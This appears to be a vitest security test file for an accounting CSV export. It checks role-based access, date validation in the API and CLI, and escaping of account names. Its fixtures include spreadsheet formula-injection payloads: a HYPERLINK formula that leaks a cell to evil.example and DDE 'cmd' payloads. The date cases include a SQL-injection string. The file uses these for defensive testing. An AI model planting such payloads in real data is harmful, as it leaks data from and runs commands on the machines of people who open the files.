import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdminApp } from '../../src/admin/app';
import { systemClock } from '../../src/clock';
import { staffService } from '../../src/staff/staff.service';
import { runCli } from '../helpers/cli';
import { silentLogger, testConfig, testDb, testEnv } from '../helpers/env';
import { postpaidInvoiceFactory } from '../helpers/postpaidInvoice';
import { serve } from '../helpers/servers';

/**
 * The accountants' export from an attacker's side (docs/collections.md,
 * "Export for the accountants"): only billing staff and admins read it; its
 * dates are bounded and refused with a problem document (or one CLI line)
 * before anything is read; and a customer cannot plant a spreadsheet formula
 * in the accountants' file through the account's name.
 */
const config = testConfig();
const env = testEnv(config);
const db = testDb(config);
let base: string;
let close: () => Promise<void>;
const tokens: Record<string, string> = {};
const month = new Date().toISOString().slice(0, 7);
const EVIL_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(A1:A9)', '\t=1+1'];
const evilAccounts = new Map<string, string>();

beforeAll(async () => {
  const make = await postpaidInvoiceFactory(db, config);
  for (const name of EVIL_NAMES) evilAccounts.set((await make(name)).accountId, name);
  const app = createAdminApp({ db, billing: config.billing, config, clock: systemClock, logger: silentLogger, readiness: {}, readyCheckTimeoutMs: 1000 });
  ({ url: base, close } = await serve(app));
  for (const role of ['billing', 'admin', 'compliance'] as const) tokens[role] = (await staffService({ db }).createStaffToken({ role })).token;
}, 60_000);
afterAll(async () => {
  await close();
  await db.destroy();
});

const get = (role: string | null, query: string) =>
  fetch(`${base}/billing/exports/accounting${query}`, { headers: role ? { authorization: `Bearer ${tokens[role]}` } : {} });

describe('who may export', () => {
  it('billing staff and admins; not compliance staff, not without a token', async () => {
    for (const role of ['billing', 'admin']) {
      const res = await get(role, `?period=${month}`);
      expect(res.status, role).toBe(200);
      expect(res.headers.get('content-type')).toContain('text/csv');
      await res.text();
    }
    const compliance = await get('compliance', `?period=${month}`);
    expect(compliance.status).toBe(403);
    expect(compliance.headers.get('content-type')).toContain('application/problem+json');
    expect(await compliance.text()).not.toContain('record_type');
    const anon = await get(null, `?period=${month}`);
    expect(anon.status).toBe(401);
    expect(await anon.text()).not.toContain('record_type');
  });
});

describe('bounds', () => {
  const bad: [string, string, RegExp][] = [
    ['nothing', '', /either from and to .* or period/],
    ['impossible date', '?from=2026-02-30&to=2026-03-01', /from must be a date YYYY-MM-DD/],
    ['month 13', '?from=2026-13-01&to=2026-12-31', /from must be a date/],
    ['not a date', '?from=yesterday&to=2026-03-01', /from must be a date/],
    ['timestamp', '?from=2026-01-01T00:00:00Z&to=2026-01-02', /from must be a date/],
    ['SQL in a date', `?from=${encodeURIComponent("2026-01-01' OR '1'='1")}&to=2026-01-02`, /from must be a date/],
    ['huge value', `?from=${'9'.repeat(5000)}&to=2026-01-02`, /from must be a date/],
    ['repeated parameter', '?from=2026-01-01&from=2026-01-02&to=2026-01-03', /from must be a date/],
    ['from without to', '?from=2026-01-01', /from and to go together/],
    ['from after to', '?from=2026-03-02&to=2026-03-01', /from must not be after to/],
    ['a range too long', '?from=2025-01-01&to=2026-01-02', /367 days; export at most 366 days/],
    ['ten years', '?from=2016-01-01&to=2026-01-01', /export at most 366 days/],
    ['both', `?period=${month}&from=2026-01-01&to=2026-01-02`, /either from and to .* or period/],
    ['bad period', '?period=2026-13', /period must be a month YYYY-MM/],
    ['period as a day', '?period=2026-11-01', /period must be a month/],
    ['unknown parameter', `?period=${month}&accountId=x`, /accountId/],
  ];
  for (const [what, query, message] of bad) {
    it(`refuses ${what} with a problem document`, async () => {
      const res = await get('billing', query);
      expect(res.status).toBe(400);
      expect(res.headers.get('content-type')).toContain('application/problem+json');
      const body = (await res.json()) as { detail: string };
      expect(body.detail).toMatch(message);
      expect(JSON.stringify(body)).not.toMatch(/\n\s+at |node_modules|record_type/);
    });
  }

  it('refuses the same from the CLI with one line and exit code 2, writing no file', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'export-sec-'));
    for (const args of [
      ['--from', '2026-02-30', '--to', '2026-03-01'],
      ['--from', '2025-01-01', '--to', '2026-01-02'],
      ['--period', '2026-13'],
      [],
    ]) {
      const r = await runCli(['invoices', 'export', ...args, '--output', path.join(dir, 'x.csv')], env);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr.trim().split('\n'), r.stderr).toHaveLength(1);
      expect(r.stderr).toMatch(/^error: invalid input/);
      expect(r.stdout).toBe('');
    }
    expect(fs.readdirSync(dir)).toEqual([]);
  });
});

describe('formula injection', () => {
  it("a customer's name cannot become a spreadsheet formula in the export", async () => {
    const res = await get('billing', `?period=${month}`);
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const ours = rows.filter((r) => evilAccounts.has(r.account_id!));
    expect(ours.length).toBe(EVIL_NAMES.length);
    for (const r of ours) {
      // As stored (names are trimmed when accounts are made): a formula, until the export defuses it.
      const stored = (await db('accounts').where({ id: r.account_id }).first('name')).name as string;
      expect(stored).toMatch(/^[=+\-@]/);
      expect(stored.startsWith(evilAccounts.get(r.account_id!)!.trim())).toBe(true);
      expect(r.account_name).toBe(`'${stored}`);
    }
    // No cell of the whole file starts like a formula; negative amounts stay plain numbers.
    for (const r of rows) {
      for (const [col, v] of Object.entries(r)) {
        expect(/^[=+@\t\r]/.test(v), `${col}: ${v}`).toBe(false);
        if (v.startsWith('-')) expect(v, col).toMatch(/^-\d+(\.\d+)?$/);
      }
    }
  });
});
